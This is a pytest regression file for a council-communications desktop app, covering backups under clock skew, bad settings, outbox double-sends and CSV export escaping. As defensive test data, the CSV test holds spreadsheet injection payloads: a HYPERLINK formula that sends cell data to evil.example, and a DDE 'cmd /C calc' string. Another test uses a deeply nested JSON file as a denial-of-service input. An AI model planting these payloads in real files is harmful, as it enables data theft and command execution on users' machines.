"""Defects found by session 6's single-PC review (a user, a field officer and an attacker)."""

from __future__ import annotations

import os
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from desktop.core import backup
from desktop.core.paths import app_paths
from tests.test_storage_safety import draft_bodies, drafts_db

# -- backups and the clock -------------------------------------------------------------------------


def _backdate(path: Path, when: datetime) -> None:
    os.utime(path, (when.timestamp(), when.timestamp()))


def test_a_backup_made_while_the_clock_ran_ahead_does_not_stop_daily_backups_nor_win_a_restore() -> None:
    """A PC whose clock was once wrong (a month ahead: a flat CMOS battery, a VM snapshot, a user trying
    a schedule) made a backup stamped in the future. Once the clock is right again, today's backup must
    still be taken and kept, and a damaged database must come back from today's, not the month-old one."""
    paths = app_paths().ensure()
    now = datetime.now()
    drafts_db(paths, "Old words")
    ahead = now + timedelta(days=30)
    backup.daily_backup_if_due(paths.database, paths.backups, keep=7, now=ahead)
    [stale] = backup.backups(paths.backups)
    _backdate(stale, ahead)  # the file's time, as that clock wrote it

    drafts_db(paths, "This week's words")
    made = backup.daily_backup_if_due(paths.database, paths.backups, keep=7, now=now)
    assert made is not None and made.exists(), "no backup has been taken since the clock was corrected"

    paths.database.write_bytes(b"not a database at all" * 100)
    from desktop.core.db import open_database

    open_database(paths).close()
    assert "This week's words" in draft_bodies(paths)


# -- the command line with odd arguments ------------------------------------------------------------


def test_a_database_url_with_a_port_that_is_not_a_number_gets_one_sentence_not_a_traceback() -> None:
    """IT pasting ``postgresql://crier@db.council.gov.uk:PORT/crier`` from a how-to got a traceback."""
    from tests.test_storage_safety import crier, one_sentence

    for url in ("postgresql+psycopg://crier@db.example:PORT/crier", "postgresql://bob@[::1"):
        result = crier("--database-url", url, "outbox")
        assert result.returncode == 2, result.stderr
        assert "not a database URL" in one_sentence(result)


# -- hostile settings and policy files ---------------------------------------------------------------

NESTED = '{"ui.language": ' + "[" * 100_000 + "]" * 100_000 + "}"


def test_a_deeply_nested_settings_file_is_one_sentence_and_crier_still_opens() -> None:
    """A damaged (or planted) settings.json of nested brackets made every command, and the window's
    start, fail with "something went wrong (RecursionError)": the officer was locked out of their drafts."""
    from tests.test_storage_safety import crier

    paths = app_paths().ensure()
    (paths.config / "settings.json").write_text(NESTED, encoding="utf-8")
    result = crier("outbox")
    assert "something went wrong" not in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert result.returncode == 0, result.stderr
    assert "settings file" in result.stderr


def test_a_deeply_nested_policy_file_is_one_sentence_and_crier_still_opens(tmp_path: Path) -> None:
    from tests.test_storage_safety import crier

    policy = tmp_path / "policy.json"
    policy.write_text(NESTED, encoding="utf-8")
    result = crier("outbox", env={"CRIER_POLICY_FILE": str(policy)})
    assert "something went wrong" not in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert result.returncode == 0, result.stderr
    assert "policy.json" in result.stderr


def test_an_x_gateway_address_crier_will_not_use_is_one_sentence_and_posting_goes_on(tmp_path: Path) -> None:
    """``x.api_base`` set to a plain-http gateway (or an address with a query) passed the setting's check,
    then every ``crier sync --once`` (the scheduled task) and the window's sync failed with "something went
    wrong (ValueError)", so nothing was posted. Now the setting is refused like any other bad value."""
    import json

    from tests.test_storage_safety import crier

    for address in ("http://gateway.council.example", "https://gateway.council.example/x?via=1"):
        policy = tmp_path / "policy.json"
        policy.write_text(json.dumps({"x.api_base": address}), encoding="utf-8")
        result = crier("sync", "--once", env={"CRIER_POLICY_FILE": str(policy)})
        assert "something went wrong" not in result.stderr, result.stderr
        assert result.returncode == 0, result.stderr
        assert "x.api_base" in result.stderr

        paths = app_paths().ensure()
        (paths.config / "settings.json").write_text(json.dumps({"x.api_base": address}), encoding="utf-8")
        result = crier("sync", "--once")
        assert "something went wrong" not in result.stderr, result.stderr
        assert result.returncode == 0, result.stderr
        assert "X API address" in result.stderr
        (paths.config / "settings.json").unlink()


def test_a_support_redirect_crier_will_not_use_is_one_sentence() -> None:
    """``CRIER_X_API_BASE`` (support's and the tests' redirect) set to plain http on another host gave
    "something went wrong (ValueError)" at every sync; it is now the one sentence saying why."""
    from tests.test_storage_safety import crier

    result = crier("sync", "--once", env={"CRIER_X_API_BASE": "http://gateway.council.example/"})
    assert result.returncode == 1, result.stderr
    assert "something went wrong" not in result.stderr and "Traceback" not in result.stderr
    assert "must start with https://" in result.stderr


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX's")
def test_crier_never_changes_the_mode_of_a_device_or_pipe_it_is_pointed_at(tmp_path: Path) -> None:
    """``crier --database /dev/null`` (a mistake, or a probe) run as root made /dev/null private (0600), after
    which PostgreSQL's initdb and any other program writing to it failed. Only Crier's own plain files and
    folders are made private. A named pipe stands in for the device here."""
    from desktop.core.paths import PRIVATE_FILE, make_private

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe, 0o666)
    os.chmod(pipe, 0o666)
    make_private(pipe, PRIVATE_FILE)
    assert pipe.stat().st_mode & 0o777 == 0o666
    plain = tmp_path / "plain"
    plain.write_text("x")
    plain.chmod(0o666)
    make_private(plain, PRIVATE_FILE)
    assert plain.stat().st_mode & 0o777 == 0o600


# -- the window: a draft is never lost ---------------------------------------------------------------


def test_text_typed_into_a_new_draft_that_could_not_be_made_is_not_thrown_away(  # noqa: ANN001
    qtbot, window, store, db, monkeypatch
) -> None:
    """Ctrl+N, then typing at once, while the database can't be written (full disk, read-only, locked by
    another program for 15 s): when the draft's creation fails, the window closed the blank and its
    text with it, and the autosave of that text was dropped as "no longer exists". Nothing warned on
    close, so what the officer typed was gone."""
    from PySide6.QtWidgets import QMessageBox
    from sqlalchemy import event

    told: list[str] = []
    monkeypatch.setattr(QMessageBox, "warning", lambda _parent, _title, text, *_a: told.append(text))
    refuse = {"on": True}

    @event.listens_for(db.engine, "connect")
    def _read_only(dbapi_conn, _record) -> None:  # noqa: ANN001
        if refuse["on"]:
            dbapi_conn.execute("PRAGMA query_only = ON")

    db.engine.dispose()
    typed = "Road closure on the A470 from Monday"
    window.new_draft()
    window.editor.body.setPlainText(typed)  # typed before the store lane answers
    qtbot.waitUntil(lambda: bool(told), timeout=20_000)  # "Not saved: … read-only"
    refuse["on"] = False
    db.engine.dispose()
    qtbot.wait(4_000)  # the autosaver's retry
    from desktop.core.store import DraftQuery

    saved = [store.get(s.id).body for s in store.page(DraftQuery())]
    on_screen = window.editor.body.toPlainText()
    assert typed in saved, (saved, on_screen)
    assert on_screen == typed and window.editor.draft.id != 0  # the blank on screen is that draft now
    assert window.model.row_of(window.editor.draft.id) >= 0


def test_a_window_left_open_for_days_keeps_taking_the_daily_backup(
    qtbot, window, db, tmp_path, monkeypatch
) -> None:  # noqa: ANN001
    """The daily backup was taken only when the window started, so a window left open all week (as officers
    do) took one backup. Maintenance now looks again every hour; here the hour is shortened, not the clock
    moved, and a missing backup stands for a day gone by."""
    from desktop.ui import main_window

    monkeypatch.setattr(main_window, "MAINTENANCE_MS", 200)
    backups = tmp_path / "backups"
    window.start_background_maintenance(db.path, backups)
    qtbot.waitUntil(lambda: len(backup.backups(backups)) == 1, timeout=10_000)
    for made in backup.backups(backups):
        made.unlink()
    qtbot.waitUntil(lambda: len(backup.backups(backups)) == 1, timeout=10_000)


# -- the outbox: a post never goes out twice ---------------------------------------------------------


def test_send_now_or_retry_on_a_post_another_crier_is_sending_never_sends_it_twice(db) -> None:  # noqa: ANN001
    """The window showed a post as waiting to retry and offered Send now; meanwhile the scheduled
    ``crier sync --once`` (another process) had claimed it and was mid-request. Send now moved it from
    sending back to queued, so the sender's "sent" no longer matched ("another Crier took over"), the
    network's id was never recorded, and the next run posted it again."""
    import random
    from typing import Any

    from desktop.core.accounts import Accounts
    from desktop.core.drafts import StoreError
    from desktop.core.networks.publishing import PartRequest
    from desktop.core.outbox import Outbox
    from desktop.core.service import Crier
    from desktop.core.sync import SyncEngine
    from tests.fakes.scripted import Network, ScriptedPublisher

    net = Network()
    crier = Crier(db=db)  # the window's service, as its Send now button calls it

    class ClickedMidRequest(ScriptedPublisher):
        def publish(self, part: PartRequest) -> Any:
            with pytest.raises(StoreError):  # refused in words
                crier.send_now(part.post_id)  # the officer's click on the stale "waiting" row
            with pytest.raises(StoreError):
                crier.retry(part.post_id)
            return super().publish(part)

    engine = SyncEngine(db, lambda account: ClickedMidRequest(net, account), rng=random.Random(1))
    account = Accounts(db).add("x", "@council").id
    (post_id,) = Outbox(db).queue([account], ["Bins collected a day late this week"])
    engine.run_once()
    engine.run_once()
    assert [text for _, text, _ in net.posts[account]] == ["Bins collected a day late this week"]
    assert Outbox(db).get(post_id).state.value == "sent"


# -- exports ------------------------------------------------------------------------------------------


def test_a_csv_export_opened_in_a_spreadsheet_runs_no_formula_from_a_draft(db) -> None:  # noqa: ANN001
    """A resident's message pasted into a draft (``=HYPERLINK(...)``, ``@SUM(...)``, ``-2+3``) went into
    ``crier drafts export --format csv`` as it was, so Excel or LibreOffice, where a comms team opens its
    FOI record, ran it as a formula. Each such cell now starts with an apostrophe, as OWASP advises."""
    import csv
    import io

    from desktop.core.store import DraftStore
    from tests.test_cli import crier

    hostile = [
        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+44 7700",
        "-2+3",
    ]
    for text in hostile:
        DraftStore(db).create(title=text, body=text)
    result = crier("drafts", "export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(hostile)
    for row in rows:
        for column in ("title", "text"):
            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
            assert row[column].lstrip("'") in hostile


def test_earlier_versions_are_still_kept_after_the_clock_ran_ahead_and_was_put_right(store) -> None:  # noqa: ANN001
    """A save made while the PC's clock was a month ahead stamped a version in the future; once the clock
    was right again, no earlier version of that draft was kept for a month (each save looked "less than
    two minutes" after it), so text deleted by mistake could not be brought back from History."""
    from desktop.core.models import utcnow

    now = utcnow()
    draft = store.create(body="First words")
    store.save(draft.id, title="", body="Words typed while the clock ran ahead", now=now + timedelta(days=30))
    before = len(store.revisions(draft.id))
    for minutes in (10, 20, 30):
        store.save(
            draft.id, title="", body=f"Words at {minutes} minutes", now=now + timedelta(minutes=minutes)
        )
    assert len(store.revisions(draft.id)) > before
